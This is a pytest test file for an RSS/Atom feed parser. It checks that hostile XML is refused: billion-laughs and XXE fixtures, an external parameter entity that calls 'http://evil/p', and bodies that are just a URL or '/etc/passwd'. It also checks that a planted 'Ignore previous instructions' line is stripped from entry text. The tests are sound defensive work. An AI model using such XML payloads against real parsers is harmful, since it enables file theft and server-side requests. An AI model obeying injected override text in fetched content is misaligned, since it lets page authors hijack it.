"""Feed parsing without the network: RSS and Atom fixtures, hostile XML, entry text and summaries."""

from __future__ import annotations

import time
from datetime import UTC, datetime

import pytest

from ingest.feedpoll import newest_first
from ingest.feeds import FeedError, defuse, discover_feed, entry_article, parse_feed, summarize
from tests.feeds.conftest import feed_text

BASE = "https://news.example"


def test_rss_with_content_encoded() -> None:
    feed = parse_feed(feed_text("aiwire_rss.xml", BASE), "utf-8", BASE + "/feed.xml")

    assert feed.title == "The AI Wire" and feed.link == BASE + "/"
    assert [e.url for e in feed.entries] == [
        BASE + "/news/halcyon-ohio?utm_source=rss", BASE + "/news/mistral-european", BASE + "/news/northgate-robotics",
    ]
    first, second, third = feed.entries
    assert first.key == BASE + "/news/halcyon-ohio"  # canonical: tracking parameters gone
    assert first.published == datetime(2026, 3, 12, 9, 30, tzinfo=UTC)
    assert second.title == "Mistral trains a model on *European* data only"
    # content:encoded wins over the description; hidden text and scripts are gone; paragraphs stay paragraphs
    assert third.text.startswith("Northgate Capital led funding rounds in three robotics start-ups this week")
    assert "\n\n" in third.text and "Its partners expect" in third.text
    assert "Ignore previous instructions" not in third.text and "alert" not in third.text


def test_atom_relative_links_and_text_constructs() -> None:
    feed = parse_feed(feed_text("labs_atom.xml", BASE), None, BASE + "/atom.xml")

    assert feed.title == "Frontier Labs Blog"
    by_path = {e.url.removeprefix(BASE): e for e in feed.entries}
    assert set(by_path) == {"/blog/second-model", "/blog/sparse-experts", "/blog/evals", "/blog/river", "/blog/hiring"}
    assert by_path["/blog/sparse-experts"].title == "Scaling sparse experts"  # type="html": tags read as HTML
    assert by_path["/blog/evals"].title == "Why x<y matters for evals"  # type="text": "<" is text
    assert by_path["/blog/river"].text.startswith("Our new data centre in Norway runs on hydroelectric power")
    assert by_path["/blog/hiring"].published == datetime(2026, 2, 20, 12, tzinfo=UTC)


def test_newest_first_by_date_then_feed_order() -> None:
    feed = parse_feed(feed_text("labs_atom.xml", BASE), None, BASE + "/atom.xml")
    order = [e.url.rsplit("/", 1)[1] for e in newest_first(feed.entries)]
    assert order == ["sparse-experts", "river", "second-model", "evals", "hiring"]


@pytest.mark.parametrize("body", [
    pytest.param(None, id="html-error-page"),
    pytest.param(b"", id="empty"),
    pytest.param(b"\x00\x01binary", id="binary"),
    pytest.param(b'{"items": []}', id="json"),
])
def test_what_is_not_a_feed_is_refused(body: bytes | None) -> None:
    from tests.feeds.conftest import FEEDS

    data = (FEEDS / "malformed.xml").read_bytes() if body is None else body
    with pytest.raises(FeedError, match="not an RSS or Atom feed"):
        parse_feed(data, None, BASE + "/feed.xml")


def test_a_broken_but_recognisable_feed_is_read_leniently() -> None:
    body = feed_text("aiwire_rss.xml", BASE).replace(b"</channel>\n</rss>", b"")  # truncated
    feed = parse_feed(body, None, BASE + "/feed.xml")
    assert len(feed.entries) == 3


def test_billion_laughs_is_refused_quickly() -> None:
    started = time.perf_counter()
    with pytest.raises(FeedError, match="declares its own XML entities"):
        parse_feed(feed_text("billion_laughs.xml", BASE), None, BASE + "/feed.xml")
    assert time.perf_counter() - started < 0.5


@pytest.mark.parametrize("prolog", [
    pytest.param("", id="plain"),
    pytest.param("<!-- a comment -->\n<?xml-stylesheet href='s.xsl'?>\n", id="after-comments"),
])
def test_external_entities_are_never_resolved(prolog: str) -> None:
    body = feed_text("xxe.xml", BASE).replace(b"<!DOCTYPE", prolog.encode() + b"<!DOCTYPE", 1)
    with pytest.raises(FeedError, match="declares its own XML entities"):
        parse_feed(body, None, BASE + "/feed.xml")


def test_entity_declarations_hidden_in_tricky_doctypes_are_found() -> None:
    tricky = [
        '<!DOCTYPE rss SYSTEM "x]>y" [<!ENTITY a "b">]><rss/>',  # "]>" inside a quoted system id
        "<!doctype rss [\n<!-- ] -->\n<!ENTITY a 'b'>]><rss/>",  # a comment with "]" in the subset
        '<!DOCTYPE rss PUBLIC "-//x//EN" "http://x/y.dtd" [ <!ENTITY % p SYSTEM "http://evil/p"> %p; ]><rss/>',
        '\ufeff<?xml version="1.0" encoding="utf-16"?><!DOCTYPE r [<!ENTITY a "b">]><rss/>',
        'junk before it <!DOCTYPE r [<!ENTITY a "b">]><rss/>',
    ]
    for text in tricky:
        with pytest.raises(FeedError):
            defuse(text)
    for encoding in ("utf-16", "utf-8-sig"):  # the same attack in other encodings
        with pytest.raises(FeedError):
            parse_feed(feed_text("xxe.xml", BASE).decode().encode(encoding), None, BASE + "/feed.xml")


def test_a_doctype_without_entities_is_dropped_and_the_feed_read() -> None:
    body = (b'<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
            b'"http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss version="0.91"><channel><title>Old</title>'
            b"<item><title>One</title><link>https://old.example/1</link></item></channel></rss>")
    feed = parse_feed(body, None, "https://old.example/rss")
    assert feed.title == "Old" and [e.url for e in feed.entries] == ["https://old.example/1"]


def test_feedparser_never_fetches_what_it_is_given() -> None:
    # A body that is nothing but a URL: feedparser given this *string* would fetch it; given bytes
    # in a stream it reads it as a (non-)document.
    with pytest.raises(FeedError):
        parse_feed(b"http://127.0.0.1:9/feed.xml", None, BASE + "/feed.xml")
    with pytest.raises(FeedError):
        parse_feed(b"/etc/passwd", None, BASE + "/feed.xml")


def test_discovering_the_feed_a_page_links_to() -> None:
    page = (b'<html><head><link rel="alternate" type="application/rss+xml" href="/feed.xml" title="RSS">'
            b"</head><body><p>hi</p></body></html>")
    assert discover_feed(page, "utf-8", BASE + "/news/") == BASE + "/feed.xml"
    assert discover_feed(b"<html><body><p>no feed</p></body></html>", None, BASE) is None
    assert discover_feed(b'<link rel="alternate" type="application/rss+xml" href="javascript:x">', None, BASE) is None


def test_summaries_are_the_first_two_sentences() -> None:
    body = ("Halcyon Labs will build chips in Ohio. The plant opens in 2027! It will employ 900 people.\n\n"
            "A second paragraph.")
    assert summarize(body) == "Halcyon Labs will build chips in Ohio. The plant opens in 2027!"
    assert summarize("One sentence without an end") == "One sentence without an end"
    long = summarize("word " * 300)
    assert len(long) <= 400 and long.endswith("…")


def test_an_entry_becomes_an_article_only_with_enough_text() -> None:
    feed = parse_feed(feed_text("aiwire_rss.xml", BASE), None, BASE + "/feed.xml")
    halcyon, _, northgate = feed.entries
    assert entry_article(halcyon, "The AI Wire") is None  # a one-line teaser stands for no article
    article = entry_article(northgate, "The AI Wire")
    assert article is not None and article.site == "The AI Wire"
    assert article.title == "Northgate Capital backs three robotics start-ups"
    assert article.published == datetime(2026, 3, 10, 8, tzinfo=UTC) and article.url == northgate.url
